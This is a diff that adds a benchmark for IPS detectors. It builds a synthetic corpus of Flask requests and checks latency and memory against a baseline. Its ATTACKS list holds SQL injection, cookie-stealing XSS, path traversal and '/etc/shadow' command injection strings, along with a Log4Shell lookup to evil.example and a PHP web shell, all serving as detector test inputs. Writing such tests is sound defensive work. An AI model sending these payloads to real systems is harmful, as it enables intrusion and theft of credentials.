@@ -0,0 +1,346 @@
+__help__ = "Бенчмарк детекторов IPS на синтетическом корпусе с проверкой регрессий по базовой линии"
+
+import io
+import json
+import os
+import random
+import statistics
+import sys
+import time
+import tracemalloc
+
+from flask import Flask
+from rich import print
+from rich.table import Table
+from werkzeug.exceptions import HTTPException
+
+try:
+    from . import intrusions
+except ImportError:
+    import intrusions
+
+
+USAGE = (
+    "Usage: apm sec bench [--requests N] [--repeat N] [--seed N] [--threshold 0.2] "
+    "[--min-delta-us 50] [--memory-threshold 0.5] [--baseline bench_baseline.json] "
+    "[--save-baseline] [--ci] [--out results.json]"
+)
+
+DEFAULT_BASELINE = "bench_baseline.json"
+
+# Метрики времени, по которым проверяется регрессия (медиана по повторам); p95 слишком шумный для порога
+GATED_METRICS = ("mean_us", "p50_us")
+
+# Рост меньше MIN_DELTA_US микросекунд — шум таймера и планировщика, а не регрессия
+MIN_DELTA_US = 50.0
+
+# Пик памяти проверяется отдельно: свой порог и минимальный рост в КБ
+MEMORY_METRIC = "peak_kb"
+MEMORY_THRESHOLD = 0.5
+MIN_DELTA_KB = 64.0
+
+
+# ─── Синтетический корпус ─────────────────────────────────────
+
+BENIGN_WORDS = ["hello", "world", "product", "search", "page", "user", "profile", "order", "item", "blue"]
+
+ATTACKS = [
+    "' OR 1=1--",
+    "1 UNION SELECT password FROM users",
+    "<script>alert(document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "../../../../etc/passwd",
+    "%252e%252e%252fetc%252fpasswd",
+    "; cat /etc/shadow",
+    "${jndi:ldap://evil.example/a}",
+    "<?php system($_GET['c']); ?>",
+]
+
+
+def _word(rng):
+    return rng.choice(BENIGN_WORDS) + str(rng.randint(0, 999))
+
+
+def _nested_json(rng, depth, width, payload=None):
+    node = {f"k{i}": _word(rng) for i in range(width)}
+    if depth > 0:
+        node["child"] = _nested_json(rng, depth - 1, width, payload)
+        node["list"] = [_word(rng) for _ in range(width)]
+    elif payload is not None:
+        node["value"] = payload
+    return node
+
+
+def make_corpus(size=200, seed=1):
+    """Детерминированный корпус: [(категория, вредоносный, kwargs для test_request_context)].
+
+    Категории: small_get, large_json, multipart, headers — для каждой
+    примерно четверть вредоносных запросов.
+    """
+    rng = random.Random(seed)
+    corpus = []
+    for i in range(size):
+        category = ("small_get", "large_json", "multipart", "headers")[i % 4]
+        malicious = rng.random() < 0.25
+        payload = rng.choice(ATTACKS) if malicious else None
+
+        if category == "small_get":
+            query = {"q": payload or _word(rng), "page": str(rng.randint(1, 50))}
+            kwargs = {"path": "/search", "method": "GET", "query_string": query}
+        elif category == "large_json":
+            body = _nested_json(rng, depth=12, width=40, payload=payload)
+            kwargs = {"path": "/api/items", "method": "POST", "json": body}
+        elif category == "multipart":
+            content = " ".join(_word(rng) for _ in range(20000)).encode()
+            if payload:
+                content += payload.encode()
+            kwargs = {
+                "path": "/upload",
+                "method": "POST",
+                "data": {"title": _word(rng), "file": (io.BytesIO(content), "data.txt")},
+                "content_type": "multipart/form-data",
+            }
+        else:
+            headers = {f"X-Custom-{n}": _word(rng) for n in range(60)}
+            headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) bench"
+            headers["Cookie"] = "; ".join(f"c{n}={_word(rng)}" for n in range(20))
+            if payload:
+                headers["X-Forwarded-Host"] = payload
+            kwargs = {"path": "/", "method": "GET", "headers": headers}
+        corpus.append((category, malicious, kwargs))
+    return corpus
+
+
+def _copy_kwargs(kwargs):
+    """Файлы multipart — потоки, их нужно пересоздавать для каждого прогона."""
+    data = kwargs.get("data")
+    if not isinstance(data, dict):
+        return kwargs
+    copied = dict(kwargs)
+    copied["data"] = {
+        key: (io.BytesIO(value[0].getvalue()), value[1]) if isinstance(value, tuple) else value
+        for key, value in data.items()
+    }
+    return copied
+
+
+# ─── Замеры ───────────────────────────────────────────────────
+
+class _BenchApp:
+    """Минимальная обёртка с атрибутом .flask, как у AEngineApps App."""
+
+    def __init__(self):
+        self.flask = Flask("sec-bench")
+        self.flask.logger.disabled = True
+
+
+def _summary(samples_us, peaks=None):
+    samples_us = sorted(samples_us)
+    result = {
+        "count": len(samples_us),
+        "mean_us": statistics.fmean(samples_us),
+        "p50_us": samples_us[len(samples_us) // 2],
+        "p95_us": samples_us[min(len(samples_us) - 1, int(len(samples_us) * 0.95))],
+    }
+    if peaks is not None:
+        result["peak_kb"] = statistics.fmean(peaks) / 1024
+    return result
+
+
+def _median_summary(runs, peaks=None):
+    """Медиана метрик по повторам: один медленный повтор не даёт ложной регрессии."""
+    summaries = [_summary(samples) for samples in runs]
+    result = {
+        metric: statistics.median(summary[metric] for summary in summaries)
+        for metric in ("mean_us", "p50_us", "p95_us")
+    }
+    result["count"] = sum(summary["count"] for summary in summaries)
+    if peaks is not None:
+        result["peak_kb"] = statistics.fmean(peaks) / 1024
+    return result
+
+
+def measure(corpus, repeat=5):
+    """Задержка IPS.run_detectors и каждого детектора отдельно, плюс пик памяти на запрос.
+
+    Метрики времени — медиана по repeat повторам корпуса.
+    """
+    app = _BenchApp()
+    ips = intrusions.IPS(app)
+    flask_app = app.flask
+
+    # Выборки по повторам: категория / детектор → [выборка повтора, ...]
+    end_to_end = {}
+    per_detector = {type(d).__name__: [[] for _ in range(repeat)] for d in ips.detectors}
+
+    # Прогрев: ленивые индексы и движок сигнатур строятся на первых запросах
+    for _category, _malicious, kwargs in corpus[:8]:
+        with flask_app.test_request_context(**_copy_kwargs(kwargs)):
+            try:
+                ips.run_detectors()
+            except HTTPException:
+                pass
+
+    for run in range(repeat):
+        for category, _malicious, kwargs in corpus:
+            with flask_app.test_request_context(**_copy_kwargs(kwargs)):
+                start = time.perf_counter()
+                try:
+                    ips.run_detectors()
+                except HTTPException:
+                    pass
+                elapsed = (time.perf_counter() - start) * 1e6
+                end_to_end.setdefault(category, [[] for _ in range(repeat)])[run].append(elapsed)
+
+            # Каждый детектор отдельно (без прерывания на первом срабатывании)
+            with flask_app.test_request_context(**_copy_kwargs(kwargs)):
+                intrusions._get_inspection_context(ips.config)
+                for detector in ips.detectors:
+                    detector.trigger_response = lambda: None
+                    start = time.perf_counter()
+                    detector.run()
+                    per_detector[type(detector).__name__][run].append((time.perf_counter() - start) * 1e6)
+
+    # Память — отдельным проходом: tracemalloc заметно замедляет выполнение
+    peaks = {}
+    tracemalloc.start()
+    try:
+        for category, _malicious, kwargs in corpus:
+            with flask_app.test_request_context(**_copy_kwargs(kwargs)):
+                tracemalloc.reset_peak()
+                base, _ = tracemalloc.get_traced_memory()
+                try:
+                    ips.run_detectors()
+                except HTTPException:
+                    pass
+                _, peak = tracemalloc.get_traced_memory()
+                peaks.setdefault(category, []).append(max(0, peak - base))
+    finally:
+        tracemalloc.stop()
+
+    return {
+        "end_to_end": {cat: _median_summary(runs, peaks.get(cat)) for cat, runs in end_to_end.items()},
+        "detectors": {name: _median_summary(runs) for name, runs in per_detector.items()},
+    }
+
+
+def compare(results, baseline, threshold, min_delta_us=MIN_DELTA_US,
+            memory_threshold=MEMORY_THRESHOLD, min_delta_kb=MIN_DELTA_KB):
+    """Список регрессий относительно базовой линии.
+
+    Метрика времени — регрессия, если выросла больше чем на threshold и
+    не меньше чем на min_delta_us микросекунд; пик памяти — больше чем на
+    memory_threshold и не меньше чем на min_delta_kb КБ.
+    """
+    gates = {metric: (threshold, min_delta_us) for metric in GATED_METRICS}
+    gates[MEMORY_METRIC] = (memory_threshold, min_delta_kb)
+    regressions = []
+    for section in ("end_to_end", "detectors"):
+        for name, metrics in results.get(section, {}).items():
+            base = baseline.get(section, {}).get(name)
+            if not base:
+                continue
+            for metric, (tolerance, min_delta) in gates.items():
+                if metric not in metrics or not base.get(metric):
+                    continue
+                if metrics[metric] - base[metric] < min_delta:
+                    continue
+                ratio = metrics[metric] / base[metric]
+                if ratio > 1 + tolerance:
+                    regressions.append({
+                        "section": section,
+                        "name": name,
+                        "metric": metric,
+                        "baseline": base[metric],
+                        "current": metrics[metric],
+                        "ratio": ratio,
+                    })
+    return regressions
+
+
+def _print_results(results):
+    table = Table(title="IPS.run_detectors (end-to-end)")
+    for column in ("Категория", "mean, мкс", "p50, мкс", "p95, мкс", "пик памяти, КБ"):
+        table.add_column(column, justify="right" if column != "Категория" else "left")
+    for category, m in results["end_to_end"].items():
+        table.add_row(category, f"{m['mean_us']:.0f}", f"{m['p50_us']:.0f}", f"{m['p95_us']:.0f}", f"{m['peak_kb']:.1f}")
+    print(table)
+
+    table = Table(title="Детекторы")
+    for column in ("Детектор", "mean, мкс", "p50, мкс", "p95, мкс"):
+        table.add_column(column, justify="right" if column != "Детектор" else "left")
+    for name, m in results["detectors"].items():
+        table.add_row(name, f"{m['mean_us']:.0f}", f"{m['p50_us']:.0f}", f"{m['p95_us']:.0f}")
+    print(table)
+
+
+def _option(args, name, default=None):
+    if name not in args:
+        return default
+    try:
+        return args[args.index(name) + 1]
+    except IndexError:
+        raise ValueError(f"Не указано значение после {name}")
+
+
+def run(base_dir, *args, **kwargs):
+    """Wrapper for `apm sec bench ...`."""
+    args_list = kwargs.get("args", [])
+    if args_list and args_list[0] in {"-h", "--help"}:
+        print(USAGE)
+        return
+
+    try:
+        size = int(_option(args_list, "--requests", 200))
+        repeat = int(_option(args_list, "--repeat", 5))
+        seed = int(_option(args_list, "--seed", 1))
+        threshold = float(_option(args_list, "--threshold", 0.2))
+        min_delta_us = float(_option(args_list, "--min-delta-us", MIN_DELTA_US))
+        memory_threshold = float(_option(args_list, "--memory-threshold", MEMORY_THRESHOLD))
+        baseline_path = _option(args_list, "--baseline", DEFAULT_BASELINE)
+        out = _option(args_list, "--out")
+    except ValueError as exc:
+        print(f"[red][-] {exc}[/red]")
+        return
+
+    corpus = make_corpus(size, seed)
+    print(f"[cyan][*] Корпус: {len(corpus)} запросов (seed={seed}), повторов: {repeat}[/cyan]")
+    results = measure(corpus, repeat)
+    results["meta"] = {"requests": size, "repeat": repeat, "seed": seed, "python": sys.version.split()[0]}
+    _print_results(results)
+
+    if out:
+        with open(out, "w", encoding="utf-8") as handle:
+            json.dump(results, handle, ensure_ascii=False, indent=2)
+
+    if "--save-baseline" in args_list:
+        with open(baseline_path, "w", encoding="utf-8") as handle:
+            json.dump(results, handle, ensure_ascii=False, indent=2)
+        print(f"[green][+] Базовая линия сохранена: {baseline_path}[/green]")
+        return
+
+    if not os.path.exists(baseline_path):
+        if "--ci" in args_list:
+            # В CI отсутствие базовой линии — ошибка, иначе проверка молча ничего не проверяет
+            print(f"[red][-] Базовая линия {baseline_path} не найдена (--ci)[/red]")
+            sys.exit(1)
+        print(f"[yellow][!] Базовая линия {baseline_path} не найдена, сравнение пропущено (--save-baseline)[/yellow]")
+        return
+
+    with open(baseline_path, "r", encoding="utf-8") as handle:
+        baseline = json.load(handle)
+    if baseline.get("meta", {}).get("seed") != seed or baseline.get("meta", {}).get("requests") != size:
+        print("[yellow][!] Базовая линия снята на другом корпусе (seed/requests), сравнение может быть некорректным[/yellow]")
+
+    regressions = compare(results, baseline, threshold, min_delta_us, memory_threshold)
+    if not regressions:
+        print(f"[green][+] Регрессий нет (порог {threshold:.0%})[/green]")
+        return
+
+    for r in regressions:
+        print(
+            f"[red][-] {r['section']}/{r['name']} {r['metric']}: "
+            f"{r['baseline']:.1f} → {r['current']:.1f} (x{r['ratio']:.2f})[/red]"
+        )
+    print(f"[red][-] Обнаружено регрессий: {len(regressions)} (порог {threshold:.0%})[/red]")
+    sys.exit(1)